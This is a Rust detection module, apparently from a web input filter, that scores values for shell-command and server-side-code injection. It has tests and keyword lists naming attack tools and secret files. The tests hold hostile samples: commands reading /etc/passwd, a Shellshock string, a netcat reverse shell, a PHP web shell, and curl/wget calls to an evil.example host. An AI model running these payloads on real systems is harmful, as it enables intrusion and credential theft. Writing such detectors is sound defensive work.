//! Injection of shell commands and of server-side code.
//!
//! A shell's separator alone is punctuation. What counts is a known command after it, with an argument of the kind that it takes, and
//! little before it.

use super::Managed;
use super::scan::{after, before, find, has, has_any, is_early, is_word, strip_any, take, trim, words};

/// The score from which on a value counts as an attack.
pub(super) const THRESHOLD: u8 = 5;

/// What a value would run.
pub(super) fn judge(text: &[u8]) -> Option<(Managed, u8)> {
    if let Some(found) = code(text) {
        return Some(found);
    }
    if text.iter().all(|byte| is_word(*byte) || matches!(byte, b'-' | b'.' | b',')) {
        return None;
    }
    let plain;
    // A shell reads `c'a't`, `c\at`, `cat$ifs/etc` and `{cat,/etc}` as `cat`.
    let text = if text.iter().any(|byte| matches!(byte, b'\'' | b'"' | b'\\' | b'$' | b'^' | b'{')) {
        plain = undressed(text);
        &plain
    } else {
        text
    };
    chain(text).or_else(|| substitution(text)).or_else(|| whole(text))
}

fn undressed(text: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(text.len());
    let mut rest = text;
    let mut braced = false;
    while let Some((first, tail)) = rest.split_first() {
        if let Some(left) = strip_any(rest, &[b"${ifs}", b"$ifs$9", b"$ifs", b"%09"]) {
            out.push(b' ');
            rest = left;
            continue;
        }
        if let Some(left) = strip_any(rest, &[b"$@", b"$*", b"$1", b"$9", b"${}", b"$()", b"``"]) {
            rest = left;
            continue;
        }
        let between =
            out.last().is_some_and(u8::is_ascii_lowercase) && tail.first().is_some_and(u8::is_ascii_alphanumeric);
        match first {
            b'\'' | b'"' | b'\\' | b'^' if between => {}
            b'\'' | b'"' if tail.first() == Some(first) && out.last().is_some_and(u8::is_ascii_lowercase) => {
                rest = after(tail, 1);
                continue;
            }
            b'{' if tail.first().is_some_and(u8::is_ascii_lowercase) => braced = true,
            b'}' if braced => braced = false,
            b',' if braced => out.push(b' '),
            byte => out.push(*byte),
        }
        rest = tail;
    }
    out
}

/// A separator, then a command.
fn chain(text: &[u8]) -> Option<(Managed, u8)> {
    let separators = text.iter().enumerate().filter(|(_, byte)| matches!(byte, b';' | b'|' | b'&' | b'\n' | b'\r'));
    // Not even an attacker needs more.
    for (at, byte) in separators.take(32) {
        if !is_early(text, at) {
            break;
        }
        let (head, rest) = (before(text, at), trim(after(text, at + 1)));
        // A text of lines is a text.
        if matches!(byte, b'\n' | b'\r') && text.iter().filter(|byte| **byte == b'\n').count() > 2 {
            continue;
        }
        if matches!(rest.first(), Some(b';' | b'|' | b'&')) {
            continue;
        }
        // What an attacker leaves before it is a value: one word, or an address. A pipeline that somebody shows begins with a program.
        let value = words(head, 2) < 2 && shape(program(trim(head)).0).is_none();
        let secret = has_any(rest, &[b"/etc/passwd", b"/etc/shadow", b"win.ini", b"/bin/sh", b"/bin/bash"]);
        if (value || secret) && runs(rest, stands_alone(head, *byte, after(text, at + 1))) {
            return Some((Managed::CommandChain, 7));
        }
        if *byte == b'\n' || *byte == b'\r' {
            continue;
        }
        // Wildcards spell a program's name.
        let (word, more) = take(rest, |byte| is_word(byte) || matches!(byte, b'/' | b'?' | b'*' | b'[' | b']'));
        if word.first() == Some(&b'/')
            && word.iter().any(|byte| matches!(byte, b'?' | b'*'))
            && (has(more, b"/") || more.is_empty())
        {
            return Some((Managed::CommandChain, 6));
        }
    }
    None
}

/// Whether a command without arguments counts after this separator: where next to nothing, an address or the end of a string stands
/// before it. `name; id` and `| id | name |` are lists.
fn stands_alone(head: &[u8], separator: u8, tail: &[u8]) -> bool {
    let listed =
        tail.windows(2).any(|pair| matches!(pair, [b'|' | b'\n', _]) || matches!(pair, [b';', next] if is_word(*next)));
    let (head, doubled) = match head.split_last() {
        Some((last, rest)) if *last == separator => (rest.trim_ascii(), true),
        _ => (head, false),
    };
    let single = separator != b'&' || doubled || head.is_empty();
    let short = head.len() < 5 && head.iter().all(|byte| is_word(*byte)) && (doubled || !tail.starts_with(b" "));
    let address =
        head.iter().any(u8::is_ascii_digit) && !head.iter().any(|byte| byte.is_ascii_whitespace() || *byte == b'|');
    let ended = matches!(head.trim_ascii_end().last(), Some(b'\'' | b'"' | b')'));
    single && !listed && (head.trim_ascii().is_empty() || short || address || ended)
}

/// `$(…)`, backticks, `<(…)`.
fn substitution(text: &[u8]) -> Option<(Managed, u8)> {
    for opening in [b"$(".as_slice(), b"<(", b">("] {
        if let Some(at) = find(text, opening)
            && words(before(text, at), 3) < 3
            && runs(trim(after(text, at + 2)), true)
        {
            return Some((Managed::CommandSubstitution, 7));
        }
    }
    let at = text.iter().position(|byte| *byte == b'`')?;
    let inner = after(text, at + 1);
    let len = inner.iter().position(|byte| *byte == b'`')?;
    // With a space around it, it is somebody's way to write code in a sentence.
    let alone = before(text, at).last().is_none_or(|byte| !byte.is_ascii_whitespace() && *byte != b'(')
        && after(inner, len + 1).first().is_none_or(|byte| !byte.is_ascii_whitespace() && !b".,)?".contains(byte));
    (alone && is_early(text, at) && runs(trim(before(inner, len)), true)).then_some((Managed::CommandSubstitution, 6))
}

/// A value that is a command, and of the kind that nobody searches for.
fn whole(text: &[u8]) -> Option<(Managed, u8)> {
    if has(text, b"/dev/tcp/") || has(text, b"() { :") || has(text, b"() {:") || has(text, b"(){:;}") {
        return Some((Managed::CommandWhole, 7));
    }
    let text = trim(text);
    let name = program(text);
    let rest = after(text, name.1);
    let known = shape(name.0).is_some();
    let files = [
        b"/etc/passwd".as_slice(),
        b"/etc/shadow",
        b"/etc/hosts",
        b"/proc/self",
        b"/etc/issue",
        b"win.ini",
        b"boot.ini",
    ];
    if known
        && rest.first().is_some_and(|byte| byte.is_ascii_whitespace() || *byte == b'<')
        && has_any(rest, &files)
        && is_early(text, name.1)
    {
        return Some((Managed::CommandWhole, 5));
    }
    let shell = has_any(
        rest,
        &[
            b"-e /bin/",
            b"-c /bin/",
            b"-e cmd",
            b"exec /bin/sh",
            b"| /bin/sh",
            b"|/bin/sh",
            b"|sh",
            b"| sh",
            b"|bash",
            b"| bash",
        ],
    );
    let odd = matches!(name.0, b"nc" | b"ncat" | b"netcat" | b"bash" | b"sh" | b"telnet" | b"rm");
    if shell && odd {
        return Some((Managed::CommandWhole, 6));
    }
    let path = text.first() == Some(&b'/')
        && known
        && (text.starts_with(b"/bin/") || text.starts_with(b"/usr/bin/") || text.starts_with(b"/sbin/"));
    (path && !trim(rest).is_empty() && name.0 != b"env").then_some((Managed::CommandWhole, 6))
}

/// The name of the program that a text begins with, without its folder, and how long it was with it.
fn program(text: &[u8]) -> (&[u8], usize) {
    let (word, _) = take(text, |byte| is_word(byte) || matches!(byte, b'/' | b'.' | b'-' | b'\\' | b':'));
    let from = word.iter().rposition(|byte| matches!(byte, b'/' | b'\\')).map_or(0, |at| at + 1);
    let name = after(word, from);
    (name.strip_suffix(b".exe").unwrap_or(name), word.len())
}

/// Whether a text begins with a command and what it takes. `alone`: whether one without arguments counts.
fn runs(text: &[u8], alone: bool) -> bool {
    let text = strip_any(text, &[b"sudo ", b"exec ", b"eval ", b"time ", b"nohup ", b"env "]).map_or(text, trim);
    let text = text.strip_prefix(b"(").map_or(text, trim);
    let (name, len) = program(text);
    let Some(shape) = shape(name) else { return false };
    let rest = after(text, len);
    let argument = trim(rest);
    let path = len > name.len();
    let ended = matches!(argument.first(), None | Some(b';' | b'|' | b'&' | b'`' | b')' | b'#' | b'\'' | b'"' | b'>'));
    if ended {
        return path || shape.any || (alone && shape.alone);
    }
    if !rest.first().is_some_and(|byte| byte.is_ascii_whitespace() || matches!(byte, b'<' | b'>' | b'/' | b'$')) {
        return false;
    }
    let Some(first) = argument.first() else { return false };
    path || match first {
        b'/' | b'~' | b'$' | b'%' | b'\\' | b'*' => shape.file,
        b'<' => shape.file && matches!(argument.get(1), Some(b'/' | b'.' | b'$' | b'~')),
        b'.' => shape.file && matches!(argument.get(1), Some(b'/' | b'.')),
        b'-' => shape.flag && argument.get(1).is_some_and(|byte| byte.is_ascii_alphanumeric() || *byte == b'-'),
        b'0'..=b'9' => {
            let (_, after) = take(argument, |byte| byte.is_ascii_digit() || matches!(byte, b'.' | b's'));
            shape.number
                && matches!(
                    after.first(),
                    None | Some(b';' | b'|' | b'&' | b'`' | b')' | b'#' | b' ' | b'/' | b'\'' | b'"' | b'>')
                )
                && (name != b"sleep" || trim(after).first().is_none_or(|byte| !byte.is_ascii_lowercase()))
        }
        b'"' | b'\'' => shape.word,
        b'(' => false,
        _ if shape.any => true,
        _ => {
            let (word, _) = take(argument, |byte| !byte.is_ascii_whitespace());
            (shape.file
                && (has(word, b":\\")
                    || has(word, b":/")
                    || word.iter().any(|byte| matches!(byte, b'/' | b'.'))
                        && has_any(word, &[b"etc/", b".php", b".ini", b".conf", b"../", b".env", b"passwd"])))
                || (shape.net && (has(word, b"://") || has(word, b".")))
                || (name == b"net" && matches!(word, b"user" | b"view" | b"localgroup" | b"use"))
        }
    }
}

/// What a command takes.
#[derive(Clone, Copy)]
struct Shape {
    alone: bool,
    file: bool,
    flag: bool,
    number: bool,
    word: bool,
    net: bool,
    any: bool,
}

const NOTHING: Shape =
    Shape { alone: false, file: false, flag: false, number: false, word: false, net: false, any: false };
const FILE: Shape = Shape { file: true, flag: true, ..NOTHING };
const NET: Shape = Shape { flag: true, number: true, net: true, ..NOTHING };
const SHOW: Shape = Shape { alone: true, file: true, flag: true, ..NOTHING };
const STRONG: Shape = Shape { alone: true, file: true, flag: true, number: true, word: true, net: true, any: true };

fn shape(name: &[u8]) -> Option<Shape> {
    Some(match name {
        b"whoami" | b"ifconfig" | b"ipconfig" | b"netstat" | b"systeminfo" | b"tasklist" | b"printenv" | b"uname"
        | b"phpinfo" | b"powershell" | b"pwsh" | b"busybox" | b"certutil" | b"rundll32" | b"regsvr32" | b"mshta"
        | b"nslookup" | b"ncat" | b"wget" | b"curl" | b"lwp-download" | b"bitsadmin" | b"wmic" | b"cscript"
        | b"xp_cmdshell" => STRONG,
        b"id" | b"ls" | b"ps" | b"dir" | b"env" | b"ver" | b"w" | b"lsof" | b"vol" | b"hostname" | b"ipcs"
        | b"dmesg" => SHOW,
        b"cat" | b"tac" | b"more" | b"less" | b"head" | b"tail" | b"nl" | b"od" | b"xxd" | b"strings" | b"type"
        | b"find" | b"grep" | b"egrep" | b"rm" | b"cp" | b"mv" | b"touch" | b"chmod" | b"chown" | b"tar"
        | b"base64" | b"sort" | b"rev" | b"sed" | b"awk" | b"tee" | b"wc" | b"del" | b"copy" | b"mkdir" | b"stat"
        | b"cut" | b"dd" | b"ln" | b"mount" | b"crontab" => FILE,
        b"echo" | b"printf" => Shape { number: true, word: true, file: true, ..NOTHING },
        b"sleep" | b"timeout" => Shape { number: true, ..NOTHING },
        b"ping" | b"ping6" | b"nc" | b"netcat" | b"telnet" | b"dig" | b"traceroute" | b"tracert" | b"ssh" | b"scp"
        | b"ftp" | b"tftp" => NET,
        b"host" => Shape { flag: true, net: true, ..NOTHING },
        b"bash" | b"sh" | b"zsh" | b"ksh" | b"dash" | b"csh" | b"cmd" => Shape { file: true, flag: true, ..NOTHING },
        b"python" | b"python2" | b"python3" | b"perl" | b"php" | b"ruby" | b"node" | b"lua" | b"java" | b"gcc" => {
            Shape { flag: true, file: true, ..NOTHING }
        }
        b"net" | b"reg" | b"sc" | b"kill" | b"killall" | b"reboot" | b"shutdown" | b"halt" | b"set" | b"which"
        | b"at" | b"start" => Shape { flag: true, file: true, ..NOTHING },
        _ => return None,
    })
}

/// Code of languages that servers run.
fn code(text: &[u8]) -> Option<(Managed, u8)> {
    const PHP: [&[u8]; 15] = [
        b"system(",
        b"exec(",
        b"passthru(",
        b"eval(",
        b"assert(",
        b"phpinfo(",
        b"popen(",
        b"proc_open(",
        b"$_get",
        b"$_post",
        b"$_request",
        b"base64_decode(",
        b"file_put_contents(",
        b"file_get_contents(",
        b"include(",
    ];
    if has(text, b"<?") && has_any(text, &PHP) {
        return Some((Managed::CommandCode, 7));
    }
    if has_any(
        text,
        &[
            b"getruntime().exec(",
            b"java.lang.runtime",
            b"java.lang.processbuilder",
            b"__import__(",
            b"os.popen(",
            b"child_process').",
            b"child_process\").",
            b"process.mainmodule",
            b"allow_url_include",
            b"auto_prepend_file",
            b"call_user_func",
            b"class.forname(",
            b"wscript.shell",
            b"ysoserial",
            b"ro0ab",
        ],
    ) && is_early(text, find(text, b"(").unwrap_or(text.len()))
    {
        return Some((Managed::CommandCode, 6));
    }
    // `system('id')` and its like, as the whole of a value or after what ends another call.
    for name in [
        b"system(".as_slice(),
        b"exec(",
        b"passthru(",
        b"shell_exec(",
        b"popen(",
        b"proc_open(",
        b"phpinfo(",
        b"eval(",
        b"assert(",
        b"print(",
        b"die(",
        b"pcntl_exec(",
    ] {
        if let Some(at) = find(text, name) {
            let head = before(text, at);
            if head.last().is_some_and(|byte| is_word(*byte) || matches!(byte, b'>' | b':'))
                || !is_early(text, at)
                || head.len() > 24
            {
                continue;
            }
            let inside = trim(after(text, at + name.len()));
            let inside = trim(inside.strip_prefix(b"'").or_else(|| inside.strip_prefix(b"\"")).unwrap_or(inside));
            let hit = match name {
                b"phpinfo(" => inside.first() == Some(&b')'),
                b"print(" | b"die(" => has_any(inside, &[b"md5(", b"phpinfo(", b"system(", b"`id`"]),
                b"eval(" | b"assert(" => {
                    has_any(inside, &[b"base64_decode", b"$_", b"phpinfo", b"system(", b"compile(", b"__import__"])
                }
                _ => runs(inside, true) || has(inside, b"$_"),
            };
            if hit {
                return Some((Managed::CommandCode, 6));
            }
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::{THRESHOLD, judge};

    fn hit(text: &str) -> bool {
        judge(text.to_ascii_lowercase().as_bytes()).is_some_and(|(_, score)| score >= THRESHOLD)
    }

    #[test]
    fn runs_on_a_server() {
        for text in [
            ";id",
            "| cat /etc/passwd",
            "127.0.0.1; ls -la",
            "a && whoami",
            "a|c'a't /etc/passwd",
            "x;cat${IFS}/etc/passwd",
            "$(curl http://evil.example)",
            "`id`",
            "x`sleep 5`",
            "& ping -c 10 127.0.0.1 &",
            "() { :;}; /bin/bash -c 'id'",
            ";/???/c?t /etc/passwd",
            "; {cat,/etc/passwd}",
            "| type %SYSTEMROOT%\\win.ini",
            "cat /etc/passwd",
            "nc -e /bin/sh 10.0.0.1 4444",
            "<?php system($_GET['c']); ?>",
            "phpinfo()",
            "system('id')",
            "x\nwget http://evil.example/x",
        ] {
            assert!(hit(text), "{text}");
        }
    }

    #[test]
    fn is_punctuation_or_talk() {
        for text in [
            "Tom & Jerry; cat videos",
            "salt & date",
            "rock & find your way",
            "a|b|c",
            "R&B",
            "use `ls -la` to list files",
            "`cat file.txt` shows it",
            "for f in $(ls *.txt); do echo $f; done",
            "eat & sleep 8 hours",
            "price | sort by date",
            "dogs & cat & mouse",
            "how to pipe into grep | less",
            "php echo 'hello'",
            "$(document).ready(function(){})",
        ] {
            assert!(!hit(text), "{text} {:?}", judge(text.to_ascii_lowercase().as_bytes()));
        }
    }
}
